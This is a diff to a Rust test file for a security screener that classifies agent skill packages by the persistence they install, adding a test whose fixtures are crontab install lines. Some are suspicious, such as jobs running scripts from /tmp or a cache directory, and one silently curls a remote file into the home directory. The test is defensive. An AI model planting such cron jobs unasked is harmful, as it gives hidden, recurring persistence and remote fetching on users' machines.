@@ -1,6 +1,6 @@
 //! What stays behind: start-up files, jobs, keys; and what is switched off or destroyed.
 
-use super::all;
+use super::{SKILL, all, screen};
 use crate::screen::verdict::Verdict;
 
 #[test]
@@ -108,4 +108,26 @@ fn destruction_outside_the_folder_is_refused() {
             ),
         ],
     );
+}
+
+#[test]
+fn what_is_announced_covers_only_the_skills_own_program() {
+    let skill = "---\nname: tidy\ndescription: Formats tables on a schedule.\n---\n\nInstalls a cron job and a git hook.\n";
+    let run = ("scripts/run.sh", "make format\n");
+    for (wanted, job) in [
+        (Verdict::AutoApprove, "0 9 * * * cd ~/work && sh scripts/run.sh"),
+        (Verdict::AutoApprove, "0 9 * * * $PWD/scripts/run.sh >> ~/.tidy/tidy.log 2>&1"),
+        (Verdict::NeedsReview, "0 9 * * * /tmp/run.sh"),
+        (Verdict::NeedsReview, "0 9 * * * sh ~/.cache/tidy/run.sh"),
+        (Verdict::NeedsReview, "0 9 * * * /home/me/bin/agent"),
+        (Verdict::Reject, "0 9 * * * curl -s -H 'Accept: text/plain' https://stage.test/x -o ~/a"),
+    ] {
+        let install = format!("(crontab -l; echo \"{job}\") | crontab -\n");
+        let screening = screen(skill, &[run, ("scripts/install.sh", &install)]);
+        assert_eq!(screening.verdict, wanted, "{job}: {:?}", screening.findings);
+    }
+    let mentioned = SKILL.replace("# Tidy", "# Tidy\n\nPrints the schedule of a class.");
+    let install = ("scripts/install.sh", "echo '0 9 * * * sh scripts/run.sh' | crontab -\n");
+    let screening = screen(&mentioned, &[run, install]);
+    assert_eq!(screening.verdict, Verdict::NeedsReview, "{:?}", screening.findings);
 }
